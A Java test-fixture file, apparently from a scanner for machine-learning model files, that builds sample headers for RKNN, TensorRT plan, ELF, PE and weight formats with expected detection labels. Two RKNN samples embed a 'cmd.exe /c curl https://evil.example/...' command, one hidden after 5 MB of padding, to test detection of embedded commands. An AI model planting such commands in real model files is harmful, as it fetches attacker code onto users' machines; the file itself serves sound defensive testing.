package dev.assay.detectors.model.engines;

import static dev.assay.detectors.FlatBytes.little;

import dev.assay.detectors.model.FormatCase;
import java.util.List;
import java.util.Map;

/** Heads of compiled models and of bare weights. */
public final class EngineSamples {
    private EngineSamples() {}

    public static List<FormatCase> cases() {
        return List.of(
                FormatCase.of("x.rknn", little("RKNN", 1, "model_name=resnet50\n"), "model/engine-program"),
                FormatCase.of("x.engine", little("ptrt", 0, 0), "model/engine-program"),
                FormatCase.of("x.plan", little("ftrt", 0, 0), "model/engine-program"),
                FormatCase.of(
                        "plugins.plan",
                        little("ftrt", 0, "EfficientNMS_TRT", 0, "libmyplugin.so", 0, elf(190), "This is", 0),
                        "model/engine-program",
                        "model/engine-library"),
                FormatCase.of(
                        "host.plan",
                        little("ptrt", 0, "\177\177", elf(190), elf(62), 0),
                        "model/engine-program",
                        "model/engine-host-code",
                        "model/native-code"),
                FormatCase.of(
                        "windows.plan",
                        little("ptrt", 0, "MZ", "x".repeat(0x4b), "!This program cannot be run in DOS mode.", 0),
                        "model/engine-program",
                        "model/engine-host-code"),
                FormatCase.of("manifest.ocdbt", little("\14\333:*", 0, 0)),
                FormatCase.of("yolo.weights", little(0, 2, 5, 0L, 1f, 2f)),
                FormatCase.of("x.feather", little("FEA1", 0)),
                FormatCase.of("x.param", little("7767517\n3 3\nInput data 0 1 data\n")),
                FormatCase.of(
                        "second-half.rknn",
                        little("RKNN", 1, new byte[5 << 20], "note=cmd.exe /c curl https://evil.example/x\n"),
                        "model/engine-program",
                        "model/embedded-command"),
                FormatCase.of(
                        "command.rknn",
                        little("RKNN", 1, "note=cmd.exe /c curl https://evil.example/payload\n"),
                        "model/engine-program",
                        "model/embedded-command"));
    }

    /** The beginning of an ELF library for a machine. */
    private static String elf(int machine) {
        return "\177ELF\2\1\1" + "\0".repeat(9) + "\3\0" + (char) machine + "\0\1\0\0\0" + "\0".repeat(40);
    }

    public static Map<String, byte[]> all() {
        return FormatCase.bytesByName(cases());
    }
}
